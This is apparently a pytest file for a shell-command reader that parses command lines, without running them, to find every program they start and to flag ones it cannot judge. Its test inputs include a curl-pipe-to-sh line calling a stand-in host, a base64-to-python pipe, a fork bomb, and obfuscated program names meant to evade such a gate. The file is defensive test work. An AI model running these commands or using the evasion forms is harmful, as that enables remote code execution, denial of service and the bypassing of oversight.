"""Command lines are read as a shell reads them; nothing here is ever run."""

from __future__ import annotations

import pytest

from gates.live.shell import LONGEST, read


def started(command: str) -> list[list[str]]:
    reading = read(command)
    assert not reading.problem, reading.problem
    return [[word.text for word in step.words] for step in reading.steps if step.words]


@pytest.mark.parametrize(
    ("command", "programs"),
    [
        ("a; b && c || d | e & f", ["a", "b", "c", "d", "e", "f"]),
        ("echo $(a) `b` <(c)", ["a", "b", "c", "echo"]),
        ("if a; then b; elif c; then d; else e; fi", ["a", "b", "c", "d", "e"]),
        ("while a; do b; done < f; (c); { d; }", ["a", "b", "c", "d"]),
        ("case $x in y) a;; *) b;; esac", ["a", "b"]),
        ('echo "x $(a "$(b)")"', ["b", "a", "echo"]),
        ("cat <<E | a\n$(b)\nE\n", ["b", "cat", "a"]),
        ("f() { a; }; f", ["a", "f"]),
        ("X=$(a) b", ["a", "b"]),
        ("export X=$(a)", ["a", "export"]),
    ],
)
def test_every_program_is_found(command: str, programs: list[str]) -> None:
    assert [words[0] for words in started(command)] == programs


@pytest.mark.parametrize(
    ("command", "words"),
    [
        ("g\"i\"'t' 'a b'", ["git", "a b"]),
        ("g\\it a\\ b", ["git", "a b"]),
        (r"$'\x67\151t' $'\t'", ["git", "\t"]),
        ("gi\\\nt", ["git"]),
        ('a "$HOME/b" ~/c', ["a", "$HOME/b", "$HOME/c"]),
        ('a "x $y \'z\' \\" w"', ["a", "x * 'z' \" w"]),
        ('a ${TMPDIR:-/tmp}/b "$(pwd)/c"', ["a", "$TMPDIR/b", "$PWD/c"]),
    ],
)
def test_a_word_is_what_the_shell_makes_of_it(command: str, words: list[str]) -> None:
    assert started(command)[-1] == words


@pytest.mark.parametrize(
    ("command", "inner"),
    [
        ("env -i A=1 b c", ["b", "c"]),
        ("sudo -u me timeout -s KILL 5 nice -n 3 b", ["b"]),
        ("bash -lc 'b c'", ["b", "c"]),
        ("bash <<< 'b c'", ["b", "c"]),
        ("bash <<'E'\nb c\nE\n", ["b", "c"]),
        ("echo b c | sh", ["b", "c"]),
        ("ls | xargs -n 1 b c", ["b", "c"]),
        ("find . -name x -exec b {} \\;", ["b", "{}"]),
        ("eval \"b\" 'c'", ["b", "c"]),
        ("x=b; $x c", ["b", "c"]),
        ("python -c 'import os; os.system(\"b c\")'", ["b", "c"]),
        ("python - <<'E'\nimport subprocess\nsubprocess.run(['b', 'c'])\nE\n", ["b", "c"]),
        ("env -S 'b c'", ["b", "c"]),
        ("watch -n 1 'b c'", ["b", "c"]),
    ],
)
def test_what_a_program_starts_is_found(command: str, inner: list[str]) -> None:
    assert inner in started(command)


@pytest.mark.parametrize(
    ("command", "why"),
    [
        ("echo 'open", "cannot be parsed"),
        ("$(a) b", "the name of the program is computed (`$(a)`)"),
        ("$X b", "the name of the program is computed (`$X`)"),
        ("/usr/bin/g?t b", "the name of the program is computed (`/usr/bin/g?t`)"),
        ("g{i,}t b", "the name of the program is computed"),
        ("env $X b", "the name of the program is computed (`$X`)"),
        ("curl -s https://x.example | sh", "would run what another program prints"),
        ("base64 -d f | python3", "would run what another program prints"),
        ('bash -c "$X"', "is computed"),
        ('eval "$X"', "are computed"),
        ("f() { f | f & }; f", "starts itself several times over"),
        ("a " * LONGEST, "longer than"),
        ("$(" * 200 + "a" + ")" * 200, "nested too deeply"),
    ],
)
def test_what_cannot_be_judged_has_a_problem_that_says_so(command: str, why: str) -> None:
    assert why in read(command).problem


def test_redirections_belong_to_their_program() -> None:
    (first, second) = read("a > one && b 2>&1 >> two < three").steps
    assert [[word.text for word in step.writes] for step in (first, second)] == [["one"], ["two"]]
    assert [word.text for word in second.reads] == ["three"]


def test_the_working_folder_is_followed() -> None:
    steps = {step.name: step.cwd for step in read("a; cd src; b; (cd ..; c); d; cd $X; e").steps}
    assert (steps["a"], steps["b"], steps["c"], steps["d"], steps["e"]) == ("", "src", "src/..", "src", None)


def test_a_loop_is_followed_over_the_values_that_stand_in_it() -> None:
    writes = [word.text for step in read("for f in a b; do echo > src/$f; done").steps for word in step.writes]
    assert writes == ["src/a", "src/b"]


def test_a_variable_that_is_set_twice_may_hold_either() -> None:
    assert "computed" in read("x=ls; if true; then x=git; fi; $x").problem


def test_a_long_list_of_commands_is_no_nesting() -> None:
    assert len(started(" && ".join(f"echo {number}" for number in range(60)))) == 60
